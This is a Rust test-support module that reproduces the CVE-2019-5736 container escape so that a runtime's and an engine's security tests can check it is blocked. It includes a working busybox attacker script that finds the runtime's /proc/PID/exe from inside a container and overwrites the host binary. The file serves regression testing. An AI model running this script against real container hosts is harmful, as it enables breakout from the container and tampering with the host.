//! Pieces of the real attacks the security tests run from inside
//! containers, shared so the runtime's and the engine's tests attack the
//! same way.
//!
//! CVE-2019-5736 without `CAP_SYS_PTRACE`: a file in the container whose
//! first line is `#!/proc/self/exe`, run by an `exec` that enters the
//! container, makes the kernel execute the entering process's own binary
//! (the runtime's, or the engine's) inside the container. `execve` makes
//! that process dumpable again, so any container process may open its
//! `/proc/PID/exe`, keep the descriptor, and write the host binary through
//! it once no process runs it any more (ETXTBSY until then). The victim is
//! held at its first write to stderr, a pipe whose buffer the test filled
//! ([`full_pipe`]), so the attacker finds it without a race; a real
//! attacker wins that race by spinning.

use std::os::fd::OwnedFd;
use std::path::{Path, PathBuf};
use std::process::Command;

/// The executable file the victim `exec` runs (put it in the container).
pub const SHEBANG_SELF: &str = "#!/proc/self/exe\n";

/// The attacker, a busybox `sh -c` script. It reports in `$R` (a file the
/// test reads through a bind mount): the victim's exe link in `$R.link`,
/// then `opened`, then `written` (the host binary was overwritten) or
/// `refused` (with the error in `$R.err`), then `done`. Set `R=` first.
pub const EXE_OVERWRITE: &str = r#"
i=0
while [ $i -lt 1000 ]; do
  for p in /proc/[0-9]*; do
    l=$(readlink $p/exe 2>/dev/null) || continue
    case "$l" in ""|*busybox*) continue;; esac
    exec 3<$p/exe || continue
    echo "$l" >$R.link; echo opened >$R; break 2
  done
  i=$((i+1)); sleep 0.01
done
[ -e $R ] || { echo never-found >$R; exit 0; }
i=0
while [ $i -lt 1000 ]; do
  if (printf PWNED >/proc/self/fd/3) 2>$R.err; then echo written >>$R; break; fi
  grep -qi busy $R.err || { echo refused >>$R; break; }
  i=$((i+1)); sleep 0.01
done
echo done >>$R
"#;

/// A pipe whose buffer is full: a write to the write end (second) blocks
/// until the read end (first) is read.
pub fn full_pipe() -> (OwnedFd, OwnedFd) {
    use nix::fcntl::{fcntl, FcntlArg, OFlag};
    let (r, w) = nix::unistd::pipe().expect("pipe");
    fcntl(&w, FcntlArg::F_SETFL(OFlag::O_NONBLOCK)).expect("O_NONBLOCK");
    let chunk = [b'x'; 4096];
    while nix::unistd::write(&w, &chunk).is_ok() {}
    // Whatever room is left below a page.
    while nix::unistd::write(&w, &chunk[..1]).is_ok() {}
    fcntl(&w, FcntlArg::F_SETFL(OFlag::empty())).expect("blocking again");
    (r, w)
}

/// Reads `r` to its end in a thread (the victim then finishes).
pub fn drain(r: OwnedFd) -> std::thread::JoinHandle<()> {
    std::thread::spawn(move || {
        let mut f = std::fs::File::from(r);
        let _ = std::io::copy(&mut f, &mut std::io::sink());
    })
}

/// Copies the shared libraries `bin` loads (its ELF interpreter included,
/// from `ldd`) into `dir`, so a busybox container can run a glibc binary:
/// bind `dir` over the container's `/lib64` and `/lib/x86_64-linux-gnu`
/// (or copy it there). Returns `dir`.
pub fn glibc_libs(bin: &Path, dir: &Path) -> PathBuf {
    std::fs::create_dir_all(dir).unwrap();
    let out = Command::new("ldd").arg(bin).output().expect("ldd");
    for line in String::from_utf8_lossy(&out.stdout).lines() {
        // "libc.so.6 => /lib/x86_64-linux-gnu/libc.so.6 (0x...)" or
        // "/lib64/ld-linux-x86-64.so.2 (0x...)".
        let Some(path) = line
            .split_whitespace()
            .find(|w| w.starts_with('/'))
            .map(Path::new)
        else {
            continue;
        };
        let name = path.file_name().unwrap();
        std::fs::copy(path, dir.join(name)).unwrap();
    }
    dir.to_path_buf()
}

/// Waits (≤ 15 s) until the file `r` contains `word`; its text.
pub fn wait_report(r: &Path, word: &str) -> String {
    let t = std::time::Instant::now();
    loop {
        let s = std::fs::read_to_string(r).unwrap_or_default();
        if s.contains(word) || s.contains("never-found") {
            return s;
        }
        if t.elapsed() > std::time::Duration::from_secs(15) {
            return s;
        }
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
}
